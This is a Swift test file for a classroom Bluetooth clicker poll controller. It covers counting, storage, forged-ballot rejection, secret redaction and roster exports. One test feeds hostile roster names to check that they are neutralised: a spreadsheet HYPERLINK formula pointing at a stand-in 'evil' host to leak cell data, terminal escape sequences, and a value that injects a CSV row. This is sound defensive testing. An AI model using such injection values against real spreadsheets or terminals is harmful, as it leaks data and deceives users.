import ClickerSim
import ClickerStore
import ClickerTally
import ClickerTransport
import ClickerWire
import Foundation
import TallyDaemon
import Voter
import XCTest

final class PollControllerTests: XCTestCase {
    let code = try! JoinCode(parsing: "4821-ABCDE-FGHJK")  // test constant, not input

    func tempDB() -> String {
        let dir = NSTemporaryDirectory() + "clicker-daemon-\(UUID().uuidString)"
        try? FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        return dir + "/clicker.sqlite"
    }

    /// A sealed advertisement for a ballot of this poll.
    func report(voter: UInt32, answer: Answer, sequence: UInt16 = 1, question: UInt8 = 1,
                code: JoinCode? = nil, at t: UInt64 = 1) -> AdvertisementReport {
        let c = code ?? self.code
        let b = Ballot(voteID: c.voteID, question: question, voterID: voter, sequence: sequence, answer: answer)
        return AdvertisementReport(address: DeviceAddress(rawValue: 0xC000_0000_0000 | UInt64(voter)), rssi: -60,
                                   companyID: BallotFormat.companyID,
                                   data: BallotCodec.sealAdvertisement(b, key: .anonymous(pollSecret(c))),
                                   timestamp: RadioInstant(nanoseconds: t * 1_000_000))
    }

    // MARK: Counting through the simulated air

    /// Voters on the virtual air, each a real VoterSession; the controller counts them all and
    /// confirms each one by a GATT read of the full-tag ballot.
    func testCountsEveryVoterOnTheAirAndConfirmsByGATT() async throws {
        let air = SimulatedAir(AirConfiguration(seed: 7, clock: .virtual))
        // On the air's clock, its beacon broadcasts at instants of the air that `drive` waits for.
        let controller = try PollController(options: PollOptions(joinCode: code, maxConcurrentReads: 4), store: nil,
                                            clock: PollClock(air.clock))
        var expected: [String: Int] = ["A": 0, "B": 0, "C": 0, "D": 0]
        for i in 0..<40 {
            let answer = Answer.choice(UInt8(i % 4))
            expected[answer.description, default: 0] += 1
            let session = VoterSession(secret: pollSecret(code), question: 1, identity: DeviceKey.generate(),
                                       transport: air.addPeripheral(), state: nil)
            try await session.cast(answer)
        }
        let run = await air.start(controller)
        await air.drive(controller, until: RadioInstant(nanoseconds: 30_000_000_000))
        run.cancel()
        _ = try? await run.value
        let r = await controller.results()
        XCTAssertEqual(r.voters, 40)
        XCTAssertEqual(r.counts, expected)
        XCTAssertEqual(r.ballots.filter(\.gattVerified).count, 40, "every ballot read back over GATT")
        XCTAssertEqual(r.rejected.values.reduce(0, +), 0)
    }

    // MARK: Storage

    /// A new join code closes the stored open poll instead of mixing two polls.
    func testAnotherJoinCodeStartsAFreshPoll() async throws {
        let store = try ClickerStore(path: tempDB(), durability: .normal)
        let first = try PollController(options: PollOptions(joinCode: code, confirmByGATT: false), store: store)
        await first.ingest(report(voter: 1, answer: .choice(1)))
        let other = try JoinCode(parsing: "1234-ABCDE-FGHJK")
        let second = try PollController(options: PollOptions(joinCode: other, confirmByGATT: false), store: store)
        let r = await second.results()
        XCTAssertEqual(r.voteID, 1234)
        XCTAssertEqual(r.voters, 0)
        XCTAssertEqual(try store.polls().filter { $0.closedAt == nil }.count, 1)
    }

    // MARK: Bad input

    func testForgedAndForeignBallotsAreRejectedByReasonAndNotCounted() async throws {
        let controller = try PollController(options: PollOptions(joinCode: code, confirmByGATT: false), store: nil)
        let wrongSecret = try JoinCode(parsing: "4821-ZZZZZ-ZZZZZ")
        let otherPoll = try JoinCode(parsing: "9999-ABCDE-FGHJK")
        await controller.ingest(report(voter: 1, answer: .choice(0), code: wrongSecret))
        await controller.ingest(report(voter: 2, answer: .choice(0), code: otherPoll))
        await controller.ingest(AdvertisementReport(address: DeviceAddress(rawValue: 9), rssi: nil, companyID: 0xFFFF,
                                                    data: [0xCB, 0x20, 2], timestamp: .zero))
        await controller.ingest(report(voter: 3, answer: .choice(2)))
        let r = await controller.results()
        XCTAssertEqual(r.voters, 1)
        XCTAssertEqual(r.counts["C"], 1)
        XCTAssertEqual(r.rejected["badTag"], 1)
        XCTAssertEqual(r.rejected["otherVoteID"], 1)
        XCTAssertEqual(r.rejected["truncated"], 1)
    }

    // MARK: Secrets

    /// The daemon's journal lines name the poll by vote ID only, never the join secret.
    func testDaemonLogLinesNeverContainTheJoinSecret() async throws {
        var options = PollOptions(joinCode: code, confirmByGATT: false)
        options.publishRule = .perBallot  // the status line shows the one ballot at once
        let controller = try PollController(options: options, store: nil)
        let (shown, seen) = AsyncStream<Void>.makeStream()
        let lines = LineSink { if $0.contains("voters=1") { seen.yield() } }
        await controller.ingest(report(voter: 1, answer: .choice(0)))
        let logging = Task { await PlainView.run(controller, every: .milliseconds(1), redactSecret: true, clock: controller.clock) { lines.add($0) } }
        // Acknowledged: the line that shows the ballot was written (the limit only ends a broken run).
        let arrived = await first(of: shown, within: .seconds(60))
        logging.cancel()
        _ = await logging.value
        XCTAssertTrue(arrived, "no status line showed the ballot")
        let text = lines.all.joined(separator: "\n")
        XCTAssertTrue(text.contains("4821"), text)
        XCTAssertTrue(text.contains("voters=1"), text)
        XCTAssertFalse(text.contains(code.secretText), text)
        XCTAssertFalse(text.contains("ABCDE"), text)
    }

    // MARK: Roster polls

    func testRosterPollCountsEnrolledStudentsByNameAndExportsThem() async throws {
        let ada = DeviceKey.generate(), alan = DeviceKey.generate(), stranger = DeviceKey.generate()
        let roster = try Roster(entries: [
            RosterEntry(name: "Ada, Countess", studentID: "s1", enrollment: ada.enrollmentCode),
            RosterEntry(name: "Alan", studentID: "s2", enrollment: alan.enrollmentCode),
        ])
        let dir = NSTemporaryDirectory() + "clicker-roster-\(UUID().uuidString)"
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        let store = try ClickerStore(path: dir + "/db.sqlite", durability: .normal)
        try RosterBook.save(roster, to: store)
        let loaded = try XCTUnwrap(try RosterBook.load(from: store))
        XCTAssertEqual(loaded.entries.map(\.studentID).sorted(), ["s1", "s2"])
        let controller = try PollController(options: PollOptions(joinCode: code, roster: loaded, confirmByGATT: false),
                                            store: store)
        func vote(_ key: DeviceKey, _ mode: BallotMode, _ a: Answer) -> AdvertisementReport {
            let s = BallotSealer(secret: pollSecret(code), deviceKey: key, mode: mode)
            return AdvertisementReport(address: DeviceAddress(rawValue: UInt64(s.voterID)), rssi: nil, companyID: 0xFFFF,
                                       data: s.advertisement(question: 1, sequence: 1, answer: a), timestamp: .zero)
        }
        await controller.ingest(vote(ada, .roster, .choice(0)))
        await controller.ingest(vote(alan, .roster, .choice(2)))
        await controller.ingest(vote(stranger, .roster, .choice(3)))     // not enrolled
        await controller.ingest(vote(stranger, .anonymous, .choice(3)))  // anonymous in a roster poll
        let r = await controller.results()
        XCTAssertEqual(r.voters, 2)
        XCTAssertEqual(r.counts, ["A": 1, "B": 0, "C": 1, "D": 0])
        XCTAssertEqual(r.unregistered, 1, "the anonymous ballot is kept apart")
        XCTAssertEqual(r.rejected["unknownVoter"], 1)
        XCTAssertEqual(Set(r.ballots.compactMap(\.student)), ["Ada, Countess (s1)", "Alan (s2)"])
        let files = try await controller.export(to: dir)
        let csvPath = try XCTUnwrap(files.first { $0.hasSuffix("-roster.csv") })
        let csv = try String(contentsOfFile: csvPath, encoding: .utf8)
        XCTAssertTrue(csv.contains("\"Ada, Countess\",s1,A"), csv)
        XCTAssertTrue(csv.contains("Alan,s2,C"), csv)
        var st = stat()
        XCTAssertEqual(stat(csvPath, &st), 0)
        XCTAssertEqual(st.st_mode & 0o777, 0o600)
    }

    /// A class list with hostile names: the roster export holds no formula and no control
    /// character, and `roster list` prints none either.
    func testHostileRosterNamesAreNeutralisedInTheExportAndTheListing() async throws {
        let names = ["=HYPERLINK(\"http://evil/\"&A1,\"grades\")", "@cmd", "+1", "-1+1",
                     "Eve\u{1B}]0;owned\u{07}\u{1B}[2J", "\tTab", "Mallory\u{9B}31m\r\nBob,s9,A"]
        let roster = try Roster(entries: names.enumerated().map { i, n in
            RosterEntry(name: n, studentID: i == 0 ? "=1+1" : "s\(i)", enrollment: DeviceKey.generate().enrollmentCode)
        })
        let dir = NSTemporaryDirectory() + "clicker-hostile-\(UUID().uuidString)"
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        let store = try ClickerStore(path: dir + "/db.sqlite", durability: .normal)
        try RosterBook.save(roster, to: store)
        let loaded = try XCTUnwrap(try RosterBook.load(from: store))
        let controller = try PollController(options: PollOptions(joinCode: code, roster: loaded, confirmByGATT: false),
                                            store: store)
        let files = try await controller.export(to: dir)
        let text = try String(contentsOfFile: try XCTUnwrap(files.first { $0.hasSuffix("-roster.csv") }), encoding: .utf8)
        let lines = text.components(separatedBy: "\r\n").dropFirst().filter { !$0.isEmpty }
        XCTAssertEqual(lines.count, names.count, "one line per student: no name broke a row")
        for line in lines {
            XCTAssertFalse(line.unicodeScalars.contains { $0.value < 0x20 || (0x7F...0x9F).contains($0.value) }, line)
            // Each field either is quoted or plain; its first character after an optional quote
            // must not start a formula.
            let firstField = line.hasPrefix("\"") ? String(line.dropFirst()) : line
            XCTAssertFalse(["=", "+", "-", "@"].contains(firstField.first.map(String.init) ?? ""), line)
        }
        XCTAssertTrue(text.contains("'=1+1"), "the student ID column is neutralised too")
        for e in loaded.entries {
            let shown = RosterBook.listing(e)
            XCTAssertFalse(shown.unicodeScalars.contains { ($0.value < 0x20 && $0 != "\t") || (0x7F...0x9F).contains($0.value) },
                           shown.debugDescription)
        }
    }

    // MARK: Questions

    func testClosedQuestionRejectsLateBallotsAndNextQuestionCountsAfresh() async throws {
        let store = try ClickerStore(path: tempDB(), durability: .normal)
        let controller = try PollController(options: PollOptions(joinCode: code, confirmByGATT: false), store: store)
        await controller.ingest(report(voter: 1, answer: .choice(0)))
        try await controller.closeQuestion()
        await controller.ingest(report(voter: 2, answer: .choice(0)))
        var r = await controller.results()
        XCTAssertEqual(r.voters, 1)
        XCTAssertFalse(r.open)
        XCTAssertEqual(r.rejected["otherQuestion"], 1)

        try await controller.nextQuestion()
        await controller.ingest(report(voter: 1, answer: .choice(1), question: 2))
        r = await controller.results()
        XCTAssertEqual(r.question, 2)
        XCTAssertTrue(r.open)
        XCTAssertEqual(r.counts["B"], 1)
        let q1 = await controller.results(question: 1)
        XCTAssertEqual(q1.counts["A"], 1, "question 1 keeps its result")
        do {
            try await controller.openQuestion()
            XCTFail("opening an open question must fail")
        } catch let e as PollError {
            XCTAssertEqual(e, .questionAlreadyOpen(2))
        }
    }

    // MARK: Floods (security)

    /// An attacker in range floods the air with thousands of distinct forged voter IDs per second
    /// next to 300 honest voters. Every honest vote is counted and no forged one is.
    func testFloodOfForgedVotesNextTo300HonestVoters() async throws {
        let air = SimulatedAir(AirConfiguration(seed: 11, clock: .virtual))
        let controller = try PollController(options: PollOptions(joinCode: code, confirmByGATT: false), store: nil,
                                            clock: PollClock(air.clock))
        var honest: [UInt32: Answer] = [:]
        for i in 0..<300 {
            let session = VoterSession(secret: pollSecret(code), question: 1, identity: DeviceKey.generate(),
                                       transport: air.addPeripheral(), state: nil)
            let b = try await session.cast(.choice(UInt8(i % 4)))
            honest[b.voterID] = b.answer
        }
        // 40 attacker radios at the fastest legal interval, each event carrying a new forged voter ID
        // (a well-formed header for this vote ID with a random tag): 40 × ~40 events/s ≈ 1,600 forged IDs/s.
        let attackers = (0..<40).map { _ in air.addPeripheral(rssi: -40).address }
        var rng = SplitMix64(seed: 99)
        let forgedCount = Counter()
        let voteID = code.voteID
        @Sendable func forge(_ ctx: SimulationContext, _ a: DeviceAddress, _ rng: inout SplitMix64) {
            let fake = Ballot(voteID: voteID, question: 1, voterID: UInt32.random(in: 0...UInt32.max, using: &rng),
                              sequence: 1, answer: .choice(0))
            // Sealed under a key the attacker made up: the attacker never saw the join secret.
            let material = (0..<8).flatMap { _ in withUnsafeBytes(of: rng.next()) { Array($0) } }
            guard let key = BallotKey(keyMaterial: material) else { return }
            try? ctx.advertise(a, AdvertisingPayload(companyID: BallotFormat.companyID,
                                                     data: BallotCodec.sealAdvertisement(fake, key: key),
                                                     interval: .milliseconds(20), connectable: false))
            forgedCount.add()
        }
        for a in attackers {
            var local = SplitMix64(seed: rng.next())
            air.perform { ctx in forge(ctx, a, &local) }
            let seed = rng.next()
            @Sendable func again(_ ctx: SimulationContext, _ n: Int, _ seed: UInt64) {
                var r = SplitMix64(seed: seed)
                forge(ctx, a, &r)
                let next = r.next()
                if n > 0 { ctx.schedule(after: .milliseconds(25)) { again($0, n - 1, next) } }
            }
            air.perform { ctx in ctx.schedule(after: .milliseconds(25)) { again($0, 1600, seed) } }
        }
        let run = await air.start(controller)
        // 45 s of air (it was 25 s): under this flood an honest voter is heard only a few times in 25 s, and one run
        // of the full suite counted 299 of the 300 (a rough Poisson estimate put a miss of one of the 300 at about
        // one run in seven at 25 s, and about one in a few thousand at 45 s).
        await air.drive(controller, until: RadioInstant(nanoseconds: 45_000_000_000), quantum: .milliseconds(20))
        run.cancel()
        _ = try? await run.value
        let r = await controller.results()
        XCTAssertGreaterThan(forgedCount.value, 35_000, "the flood really ran: about 1,600 forged IDs a second")
        XCTAssertEqual(r.voters, 300, "every honest voter counted")
        for row in r.ballots {
            guard let id = UInt32(row.voter, radix: 16) else { return XCTFail("voter id \(row.voter)") }
            XCTAssertEqual(honest[id]?.description, row.answer, "only honest ballots, with their own answers")
        }
        let rejected = r.rejected.values.reduce(0, +)
        XCTAssertGreaterThan(rejected, 1000, "forged reports are counted as rejected")
        let floodSeen = await controller.floodAlert
        XCTAssertTrue(floodSeen, "the view shows a flood alert")
    }
}

/// Collects lines from a view; `onLine` sees each one as it arrives.
final class LineSink: Sendable {
    private let storage = Mutex<[String]>([])
    private let onLine: @Sendable (String) -> Void
    init(onLine: @escaping @Sendable (String) -> Void = { _ in }) { self.onLine = onLine }
    func add(_ s: String) {
        storage.withLock { $0.append(s) }
        onLine(s)
    }
    var all: [String] { storage.withLock { $0 } }
}

/// A thread-safe counter for script actions.
final class Counter: Sendable {
    private let storage = Mutex(0)
    func add() { storage.withLock { $0 += 1 } }
    var value: Int { storage.withLock { $0 } }
}


import Synchronization
